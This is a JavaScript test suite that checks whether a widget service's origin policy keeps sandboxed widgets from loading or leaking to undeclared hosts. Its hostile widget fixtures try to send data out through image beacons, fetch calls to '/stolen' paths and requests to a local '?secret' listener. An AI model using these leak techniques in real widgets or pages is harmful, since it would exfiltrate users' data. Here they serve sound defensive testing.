// Widgets that declare origins: what they load, and what a hostile one cannot reach all the same.

import assert from 'node:assert/strict';
import { after, before } from 'node:test';

import { start } from '../../lib/widgetd.mjs';
import { openHost, raised } from '../lib/host-page.mjs';
import { serveHttps } from '../lib/https.mjs';
import { listenForLeaks } from '../lib/listener.mjs';
import { makeStage } from '../lib/stage.mjs';
import { test } from '../lib/test.mjs';
import { hopeless, leaks } from './leaks.mjs';

/** Milliseconds to wait for a request that must not arrive. */
const WAIT_MS = 1000;

/** Tries to load from each origin in `data`, and raises one action with what succeeded. */
const COMPONENT = `import { useEffect } from 'react';
const loads = (start) => new Promise((resolve) => start((found) => resolve(found)));
const ways = {
  image: (origin) => loads((done) => {
    const image = new Image();
    image.onload = () => done(true);
    image.onerror = () => done(false);
    image.src = origin + '/image.png';
  }),
  redirect: (origin, to) => ways.image(origin + '/to?' + encodeURIComponent(to + '/redirected.png') + '#'),
  font: (origin) => new FontFace('f', 'url(' + origin + '/font.woff2)').load().catch(() => {}).then(() => false),
  fetch: (origin) => fetch(origin + '/fetch').then((answer) => answer.json()).then(({ answer }) => answer === 42, () => false),
  xhr: (origin) => loads((done) => {
    const request = new XMLHttpRequest();
    request.onload = () => done(request.status === 200);
    request.onerror = () => done(false);
    request.open('GET', origin + '/xhr');
    request.send();
  }),
};
export default function Loads({ data, onAction }) {
  useEffect(() => {
    const tried = data.tries.map(async ([way, ...origins]) => [way, await ways[way](...origins)]);
    Promise.all(tried).then((found) => onAction('found', Object.fromEntries(found)));
  }, []);
  return 'A widget that loads';
}`;

/** Runs the attack that the data names. The module takes the place of a real widget's, in the frame that the service serves for it. */
const hostileModule = () => {
  const attacks = Object.entries({ ...leaks, ...hopeless, ...ESCAPES }).map(([name, attack]) => `${JSON.stringify(name)}: ${attack}`);
  return `import { useEffect } from 'react';
const attacks = {${attacks.join(',\n')}};
export default function Hostile({ data, onAction }) {
  useEffect(() => {
    (async () => {
      for (const [name, to] of data.attacks) await Promise.race([attempt(name, to), new Promise((resolve) => setTimeout(resolve, 700))]);
    })().then(() => onAction('done'));
  }, []);
  return 'A hostile widget';
}
async function attempt(name, to) {
  try { await attacks[name](to); } catch {}
}`;
};

/** Ways to code or policy of another widget. */
const ESCAPES = {
  'another module': (to) => import(to.http).then(() => fetch(`${to.answer}/imported`)),
};

/** Leaks that end the document or spoil it for the ones after them. */
const isLast = (name) => /location|navigat|refresh|clicked|patched|written|window|form|download|tab/.test(name);
/** Leaks that are images, fonts or requests of scripts, so they reach an origin that is allowed for these. */
const ALLOWED = new Set([
  'fetch',
  'fetch with keepalive',
  'XMLHttpRequest',
  'sendBeacon',
  'EventSource',
  'an image',
  'an image set',
  'a video', // its poster is an image
  'an SVG image',
  'a background',
  'a font',
]);

export function originsSuite(given) {
  let allowed;
  let alsoAllowed;
  let forbidden;
  let widgetd;
  let stage;
  before(async () => {
    [allowed, alsoAllowed, forbidden] = await Promise.all([serveHttps(), serveHttps(), serveHttps()]);
    widgetd = await start({ WIDGETD_WIDGET_ORIGINS: `${allowed.origin},${alsoAllowed.origin}` });
    stage = await makeStage(widgetd);
  });
  after(async () => {
    await stage?.close();
    await widgetd?.stop();
    await Promise.all([allowed, alsoAllowed, forbidden].map((server) => server?.close()));
  });

  let count = 0;
  /** Saves a widget with these resources and returns the payload that shows it with the data. */
  async function shown(resources, data, component = COMPONENT) {
    const headers = { authorization: `Bearer ${widgetd.key}`, 'content-type': 'application/json' };
    const ask = async (path, body) => {
      const answer = await (await fetch(`${stage.origin}/api/v1/${path}`, { method: 'POST', headers, body: JSON.stringify(body) })).json();
      assert.ok(answer.success, JSON.stringify(answer));
      return answer.data;
    };
    const key = `origins-${(count += 1)}`;
    const { id } = await ask('widget', { key, name: key, schema: { type: 'object' }, component, resources });
    return ask(`widget/${id}/preview`, { data });
  }

  test('a widget loads from the origins that its version declares and the operator allows, and from no others', async () => {
    const all = [allowed.origin, forbidden.origin];
    const everything = { images: all, fonts: all, connect: all };
    const tries = (origin) => ['image', 'font', 'fetch', 'xhr'].map((way) => [way, origin]);
    const found = (is) => ({ image: is, font: false, fetch: is, xhr: is });
    const noRequests = COMPONENT.replace('fetch(origin', 'window.missing(origin').replace('new XMLHttpRequest', 'new window.Missing');
    const both = { images: [allowed.origin, alsoAllowed.origin], connect: [allowed.origin] };
    const cases = [
      [everything, tries(allowed.origin), found(true)],
      [everything, tries(forbidden.origin), found(false)],
      [{ connect: [allowed.origin] }, tries(allowed.origin), { ...found(true), image: false }],
      [{ connect: [allowed.origin] }, tries(alsoAllowed.origin), found(false)],
      [{ images: all }, [['image', allowed.origin]], { image: true }, noRequests],
      [both, [['redirect', allowed.origin, alsoAllowed.origin]], { redirect: true }],
      [both, [['redirect', allowed.origin, forbidden.origin]], { redirect: false }],
    ];
    const payloads = await Promise.all(cases.map(([resources, tries, , component]) => shown(resources, { tries }, component)));
    // Of another widget: in the common frame, and in the frame of the first.
    const reach = `async (to) => { new Image().src = to + '/stolen.png'; await fetch(to + '/stolen').catch(() => {}); }`;
    const hostile = stage.payload(`import { useEffect } from 'react';
const reach = ${reach};
export default function Hostile({ onAction }) {
  useEffect(() => { reach('${allowed.origin}').then(() => onAction('tried')); }, []);
  return 'A hostile widget';
}`);
    const plain = await shown({}, {}, 'export default () => "A plain widget";');
    assert.equal(plain.frame, undefined);
    const shows = [...payloads, hostile, { ...hostile, frame: payloads[0].frame }];
    const page = await openHost(given().context, stage, shows, { style: 'peer-widget { height: 30px; overflow: hidden }' });
    const actions = [];
    for (const at of payloads.keys()) actions.push((await raised(page, 'widget-action', { at })).payload);
    assert.deepEqual(
      actions,
      cases.map(([, , expected]) => expected),
    );
    await raised(page, 'widget-action', { at: cases.length });
    // The browser may report the blocked module before.
    const failedImport = (at) => window.raised.some((event) => event.at === at && event.detail?.kind === 'import');
    await page.waitForFunction(failedImport, cases.length + 1);
    await page.close();
    assert.ok(allowed.reached.includes('/font.woff2'), 'the font was requested');
    assert.ok(!alsoAllowed.reached.includes('/fetch'), 'what is allowed and not declared is blocked');
    assert.ok(!allowed.reached.some((path) => path.startsWith('/stolen')), allowed.reached.join());
    assert.deepEqual(forbidden.reached, []);
  });

  test('with every directive opened, nothing leaks to another origin, and other ways do not reach an allowed one', async () => {
    const listener = await listenForLeaks();
    const names = [...Object.keys(leaks), ...Object.keys(hopeless)];
    const elsewhere = { port: listener.port, http: `http://127.0.0.1:${listener.port}/?secret`, ws: `ws://127.0.0.1:${listener.port}/` };
    const at = (name) => ({
      port: allowed.port,
      http: `${allowed.origin}/${encodeURIComponent(name)}`,
      ws: `wss://localhost:${allowed.port}/${encodeURIComponent(name)}`,
    });
    const all = [allowed.origin];
    // Another module than that of the other test, which the browser may have kept.
    const payload = await shown({ images: all, fonts: all, connect: all }, {}, `${COMPONENT}// Replaced below.`);
    stage.serve(payload.module, hostileModule());
    const other = stage.module('export default () => null;');
    const together = names
      .filter((name) => !isLast(name))
      .flatMap((name) => [
        [name, elsewhere],
        [name, at(name)],
      ]);
    const runs = [
      [...together, ['another module', { http: `${stage.origin}${other}`, answer: allowed.origin }]],
      ...names.filter(isLast).flatMap((name) => [[[name, elsewhere]], [[name, at(name)]]]),
    ];
    const page = await openHost(
      given().context,
      stage,
      runs.map((attacks) => ({ ...payload, data: { attacks } })),
      { style: 'peer-widget { height: 1px; overflow: hidden }' },
    );
    let popups = 0;
    page.on?.('popup', () => (popups += 1));
    const isOver = (count) => {
      const ends = window.raised.filter(({ type, detail }) => type === 'widget-action' || detail.fatal);
      return new Set(ends.map(({ at }) => at)).size === count;
    };
    await page.waitForFunction(isOver, runs.length, { timeout: 40_000 });
    await listener.wait(WAIT_MS);
    popups += (await page.popups?.()) ?? 0;
    await page.close();
    listener.close();
    assert.deepEqual([listener.reached, popups], [[], 0]);
    const reached = new Set(
      allowed.reached.map((path) => decodeURIComponent(path.slice(1))).filter((name) => names.includes(name) || name === 'imported'),
    );
    assert.deepEqual(
      [...reached].filter((name) => !ALLOWED.has(name)),
      [],
    );
    const ran = ['fetch', 'an image', 'a font'];
    assert.deepEqual(
      ran.filter((name) => !reached.has(name)),
      [],
      'the attacks ran',
    );
  });
}
